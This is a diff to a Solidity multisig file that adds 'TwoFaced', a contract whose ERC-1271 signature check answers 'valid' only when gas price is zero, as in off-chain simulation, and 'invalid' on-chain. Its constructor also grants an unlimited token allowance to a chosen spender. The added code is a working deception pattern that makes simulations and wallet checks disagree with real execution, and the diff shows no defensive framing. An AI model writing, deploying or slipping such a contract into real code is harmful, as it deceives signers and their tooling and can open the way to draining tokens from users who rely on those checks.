@@ -2,6 +2,7 @@
 pragma solidity 0.8.37;
 
 interface IToken {
+    function approve(address spender, uint256 amount) external returns (bool);
     function transfer(address to, uint256 amount) external returns (bool);
 }
 
@@ -73,6 +74,18 @@ contract Multisig {
 
     function isOwner(address who) public view returns (bool) {
         return who != address(0) && (who == owners[0] || who == owners[1] || who == owners[2]);
+    }
+}
+
+/// @notice Takes every signature for its own when it is only asked, and none where gas is paid.
+contract TwoFaced {
+    constructor(address token, address spender) {
+        IToken(token).approve(spender, type(uint256).max);
+    }
+
+    /// @notice ERC-1271, which a contract may answer as it likes.
+    function isValidSignature(bytes32, bytes calldata) external view returns (bytes4) {
+        return tx.gasprice == 0 ? this.isValidSignature.selector : bytes4(0xffffffff);
     }
 }
 
